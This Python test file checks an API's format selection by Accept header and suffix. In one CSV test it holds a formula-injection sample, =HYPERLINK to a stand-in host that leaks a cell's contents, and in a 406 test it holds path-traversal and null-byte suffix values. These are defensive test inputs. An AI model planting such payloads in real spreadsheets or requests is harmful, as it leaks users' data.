"""The choice of a format by Accept header and by suffix."""

import csv
import io
import re

import pyarrow as pa
import pytest
from fastapi.testclient import TestClient

from api.formats.encoding import encoded
from api.formats.offered import FORMATS, Format, by_accept
from tests.api.rows.conftest import CRAWL
from tests.api.test_v1 import assert_problem


@pytest.mark.parametrize("wanted", FORMATS.values(), ids=FORMATS)
def test_the_accept_header_and_the_suffix_lead_to_the_same_rows(client: TestClient, wanted: Format) -> None:
    by_header = client.get(f"/v1/visits?crawl={CRAWL}", headers={"Accept": wanted.media_type})
    by_suffix = client.get(f"/v1/visits.{wanted.suffix}?crawl={CRAWL}", headers={"Accept": "image/png"})
    assert by_header.headers["content-type"].startswith(wanted.media_type)
    assert by_header.content == by_suffix.content


@pytest.mark.parametrize(
    "accept", ["text/html", "application/xml, image/*", "application/json;q=0", "text/csv;q=x", "nonsense"]
)
def test_what_is_not_offered_is_a_problem_that_lists_what_is(client: TestClient, accept: str) -> None:
    response = client.get(f"/v1/visits?crawl={CRAWL}", headers={"Accept": accept})
    if accept == "text/html":
        assert response.status_code == 406
        return
    problem = assert_problem(response, "not-acceptable", 406)
    assert [one["media_type"] for one in problem["offered"]] == [
        format_.media_type for format_ in FORMATS.values()
    ]


@pytest.mark.parametrize("suffix", ["xlsx", "JSON", "csv.gz", "..", "%00"])
def test_a_suffix_that_is_not_offered_is_a_problem(client: TestClient, suffix: str) -> None:
    assert_problem(client.get(f"/v1/visits.{suffix}?crawl={CRAWL}"), "not-acceptable", 406)


def test_the_most_specific_range_decides() -> None:
    assert by_accept("text/*;q=0.1, text/csv;q=0.9, */*;q=0.5").suffix == "csv"
    assert by_accept("*/*;q=0.1, application/vnd.apache.parquet").suffix == "parquet"


def test_csv_keeps_a_text_that_a_spreadsheet_takes_for_a_formula() -> None:
    hostile = ['=HYPERLINK("https://a.test/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "ordinary"]
    batch = pa.RecordBatch.from_pydict({"path": hostile})
    text = b"".join(encoded(FORMATS["csv"], [batch], batch.schema)).decode()
    assert list(csv.reader(io.StringIO(text))) == [["path"], *([one] for one in hostile)]


def test_csv_leads_to_what_a_reader_of_it_should_know(client: TestClient) -> None:
    for path in (f"/v1/visits.csv?crawl={CRAWL}", f"/v1/visits.csv?crawl={CRAWL}&limit=1"):
        found = re.search(r'<([^>]*)>; rel="help"', client.get(path).headers["link"])
        assert found is not None
        address, _, anchor = found[1].partition("#")
        assert f'id="{anchor}"' in client.get(address).text
    assert 'rel="help"' not in client.get(f"/v1/visits.ndjson?crawl={CRAWL}").headers["link"]
